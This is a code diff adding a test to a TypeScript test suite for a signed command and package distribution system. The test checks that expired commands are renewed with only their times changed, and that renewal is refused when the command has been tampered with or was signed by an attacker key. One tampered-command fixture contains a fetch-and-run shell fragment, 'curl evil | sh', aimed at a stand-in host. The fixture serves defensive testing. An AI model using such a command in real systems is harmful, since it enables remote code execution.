@@ -3,11 +3,11 @@
 import { describe, expect, it } from 'vitest';
 import { compareVersions } from '../src/agent/state.ts';
 import { PinnedKey } from '../src/common/pinned-key.ts';
-import { commandSignedNow, packageSignedNow } from '../src/master/resign.ts';
+import { commandSignedNow, packageSignedNow, renewedAuthority } from '../src/master/resign.ts';
 import { authorityOf, checkAssignment, commandProblem, signCommand } from '../src/protocol/command.ts';
 import { generateSigningKey, signPackage, verifyPackage } from '../src/protocol/crypto.ts';
 import { fingerprint, rotationStatement, trustedKeys } from '../src/protocol/keys.ts';
-import { canonicalJson, inList, ListTree } from '../src/protocol/signing.ts';
+import { canonicalJson, inList, ListTree, verifyCanonical } from '../src/protocol/signing.ts';
 import type { Assignment, DistributionCommand } from '../src/protocol/types.ts';
 import { tempDir } from './helpers.ts';
 
@@ -103,6 +103,22 @@ describe('signed again by the key in force, after a rotation', () => {
     );
     const otherContent = { ...signedPkg, digest: `sha256:${'e'.repeat(64)}` };
     expect(packageSignedNow(keys, otherContent)).toBe(otherContent);
+  });
+
+  it('renews an expired command unchanged but for its times, and only one its own keys signed', () => {
+    const renewed = renewedAuthority(keys, earlier, new Date('2100-01-01T00:00:00Z'))!;
+    expect(verifyCanonical([next.publicPem], renewed.header, renewed.signature)).toBe(true);
+    expect({ ...renewed.header, issuedAt: '', expiresAt: '' }).toEqual({
+      ...authorityOf(earlier)!.header,
+      issuedAt: '',
+      expiresAt: '',
+    });
+    expect(renewed.header.expiresAt).toBe('2100-01-31T00:00:00.000Z');
+    expect(renewedAuthority(keys, { ...earlier, params: { preCommand: 'curl evil | sh' } })).toBeUndefined();
+    expect(renewedAuthority(keys, signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z'))).toBeUndefined();
+    // A list changed beside the command: the renewed header keeps the root the master signed.
+    const moreDevices = { ...earlier, distributionList: [...earlier.distributionList, 'pos-9'] };
+    expect(renewedAuthority(keys, moreDevices)?.header.listRoot).toBe(earlier.listRoot);
   });
 });
 
